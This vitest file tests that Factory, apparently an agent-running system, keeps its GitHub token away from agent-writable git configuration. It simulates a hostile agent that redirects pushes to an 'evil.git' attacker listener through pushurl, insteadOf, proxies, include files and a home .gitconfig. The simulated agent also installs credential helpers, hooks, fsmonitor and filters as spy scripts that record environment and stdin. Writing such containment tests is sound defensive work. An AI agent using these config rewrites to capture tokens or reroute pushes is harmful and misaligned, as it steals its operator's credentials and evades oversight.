// An agent that rewires the git configuration it can write (worktree, the shared clone cache, its
// home) must not get the GitHub token out of Factory's git commands, and Factory's pushes must still
// go to the repository's real origin.
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Workspace } from '../src/git/workspace.js';
import { parseRepoSpec, type RepoSpec } from '../src/git/repo-spec.js';
import { gitOut, makeOrigin } from './agent-harness.js';
import { startGitHttp, startListener, type GitHttpServer } from './fakes/git-http.js';
import { tempDir } from './helpers.js';

const TOKEN = 'ghp_isolation0123456789abcdefghijklmnopqr';
const basic = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');

describe('the GitHub token never meets agent-writable git configuration', () => {
  let dir: string;
  let origin: GitHttpServer;
  let listener: GitHttpServer;
  let bare: string;
  let spec: RepoSpec;
  let ws: Workspace;
  const leaks = () => path.join(dir, 'leaks');

  /** A script that records its environment, arguments and stdin under leaks/<name>-<n>. */
  function spy(name: string, passStdin = false): string {
    const file = path.join(dir, `${name}.sh`);
    writeFileSync(
      file,
      `#!/bin/sh\nout="${leaks()}/${name}-$$"\n{ env; echo "ARGS: $*"; } > "$out"\n${passStdin ? 'cat' : 'cat >> "$out"'}\nexit 0\n`,
    );
    chmodSync(file, 0o755);
    return file;
  }

  beforeAll(async () => {
    dir = tempDir('factory-tokiso-');
    mkdirSync(leaks());
    const origins = path.join(dir, 'origins');
    bare = makeOrigin(origins, 'acme', 'web');
    gitOut(bare, 'config', 'http.receivepack', 'true');
    origin = await startGitHttp(origins, TOKEN);
    listener = await startListener();
    spec = parseRepoSpec('acme/web', { repos: {}, defaultOrg: '', cloneBase: origin.url });
    const home = path.join(dir, 'home');
    mkdirSync(home);
    ws = new Workspace({
      reposDir: path.join(dir, 'repos'),
      worktreesDir: path.join(dir, 'worktrees'),
      githubToken: TOKEN,
      authorName: 'Factory',
      authorEmail: 'factory@localhost',
      baseEnv: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home },
    });
  });
  afterAll(async () => {
    await origin?.close();
    await listener?.close();
  });

  it('ignores hooks, pushurl, insteadOf, proxies, helpers, fsmonitor and filters the agent installs', async () => {
    await ws.sync(spec);
    const wt = await ws.prepare(spec, 'task-1', 'factory/1-x', 'main');
    const cache = ws.cachePath(spec);
    const evil = `${listener.url}/evil.git`;
    // What an agent can do from its worktree: `git config` there writes the cache's shared config.
    const agentGit = (...args: string[]) => gitOut(wt.path, ...args);
    agentGit('config', 'remote.origin.pushurl', evil);
    agentGit('config', `url.${evil}.insteadOf`, spec.cloneUrl);
    agentGit('config', `url.${evil}.pushInsteadOf`, spec.cloneUrl);
    agentGit('config', 'http.proxy', listener.url);
    agentGit('config', 'credential.helper', spy('credential'));
    agentGit('config', 'core.fsmonitor', spy('fsmonitor'));
    agentGit('config', 'core.sshCommand', spy('ssh'));
    agentGit('config', 'filter.leak.clean', spy('clean', true));
    agentGit('config', 'filter.leak.smudge', spy('smudge', true));
    const hooks = path.join(dir, 'agent-hooks');
    mkdirSync(hooks);
    for (const hook of ['pre-push', 'post-checkout', 'pre-commit', 'post-commit', 'reference-transaction']) {
      writeFileSync(path.join(hooks, hook), readFileSync(spy(hook)));
      chmodSync(path.join(hooks, hook), 0o755);
      writeFileSync(path.join(cache, 'hooks', hook), readFileSync(spy(`cache-${hook}`)));
      chmodSync(path.join(cache, 'hooks', hook), 0o755);
    }
    agentGit('config', 'core.hooksPath', hooks);
    const included = path.join(dir, 'included.cfg');
    writeFileSync(included, `[http]\n\tproxy = ${listener.url}\n[url "${evil}"]\n\tinsteadOf = ${origin.url}\n`);
    agentGit('config', 'include.path', included);
    writeFileSync(
      path.join(dir, 'home', '.gitconfig'),
      `[url "${evil}"]\n\tinsteadOf = ${origin.url}\n[http]\n\tproxy = ${listener.url}\n`,
    );
    writeFileSync(path.join(wt.path, '.gitattributes'), '* filter=leak\n');
    writeFileSync(path.join(wt.path, 'CHANGE.md'), 'agent work\n');

    // Factory's part of the task: commit, push, checkpoint, refresh, clean up.
    expect(await ws.commitAll(wt.path, 'agent change')).toBe(true);
    await ws.push(spec, wt.path, wt.branch, wt.baseBranch);
    writeFileSync(path.join(wt.path, 'WIP.md'), 'more\n');
    const cp = (await ws.pushCheckpoint(spec, wt.path, 1))!;
    await ws.sync(spec);
    expect((await ws.fetchCheckpoint(spec, 1))?.commit).toBe(cp.commit);
    await ws.dropCheckpoint(spec, 1);
    await ws.prepare(spec, 'task-2', 'factory/2-y', 'main');

    // The push reached the real origin, authenticated, with the worktree's commit.
    expect(gitOut(bare, 'rev-parse', 'refs/heads/factory/1-x').trim()).toBe(await ws.headSha(wt.path));
    expect(gitOut(bare, 'for-each-ref', 'refs/factory')).toBe('');
    expect(origin.requests.some((r) => r.url.includes('git-receive-pack') && r.headers.authorization === `Basic ${basic}`)).toBe(true);
    // Nothing went to the attacker's listener, and no agent-installed program saw the token.
    expect(listener.requests).toEqual([]);
    const ran = readdirSync(leaks());
    expect(ran.some((f) => f.startsWith('clean-'))).toBe(true); // the filter did run (tokenless): the test can see
    for (const f of ran) {
      const text = readFileSync(path.join(leaks(), f), 'utf8');
      expect(text, f).not.toContain(TOKEN);
      expect(text, f).not.toContain(basic);
    }
    // Hooks and fsmonitor never run as Factory at all.
    expect(
      ran.filter((f) =>
        /^(cache-)?(pre-push|post-checkout|pre-commit|post-commit|reference-transaction|fsmonitor|credential|ssh)-/.test(f),
      ),
    ).toEqual([]);
    expect(existsSync(path.join(cache, 'config')) && readFileSync(path.join(cache, 'config'), 'utf8')).not.toContain(TOKEN);
  });

  it('deletes a branch at the real origin even with the rewrites in place', async () => {
    await ws.deleteRemoteBranch(spec, 'factory/1-x', 'main');
    expect(gitOut(bare, 'for-each-ref', 'refs/heads/factory')).toBe('');
    expect(listener.requests).toEqual([]);
  });
});
